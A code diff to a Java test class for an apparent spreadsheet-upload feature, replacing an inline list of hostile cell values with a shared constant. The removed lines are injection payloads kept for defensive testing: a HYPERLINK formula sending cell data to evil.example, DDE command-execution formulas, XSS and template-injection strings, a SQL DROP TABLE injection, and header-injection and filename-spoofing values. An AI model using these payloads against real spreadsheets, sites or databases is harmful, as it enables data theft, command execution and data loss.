@@ -15,6 +15,7 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.stream.IntStream;
 import org.jspecify.annotations.Nullable;
+import org.trialbridge.hostile.HostileStrings;
 import org.trialbridge.upload.SheetXml.Day;
 import org.trialbridge.upload.SheetXml.Digits;
 import org.trialbridge.upload.SheetXml.Failure;
@@ -22,20 +23,7 @@ import org.trialbridge.upload.SheetXml.Formula;
 
 /** Workbooks as people and programs fill them in, with what can be misunderstood. */
 final class HostileSheets {
-    static final List<String> INJECTIONS = List.of(
-            "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")",
-            "+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1",
-            "＝1+1",
-            "<script>alert(1)</script>",
-            "\"><img src=x onerror=alert(1)>",
-            "{{7*7}} ${7*7} #{7*7} <#assign x=1>",
-            "'; DROP TABLE counts;--",
-            "%00%0d%0aSet-Cookie: a=b",
-            "\u202Etxt.exe",
-            "👩🏽‍⚕️ 𠜎 اردو o‘zbekcha");
+    static final List<String> INJECTIONS = HostileStrings.OF_CELLS;
 
     private HostileSheets() {}
 
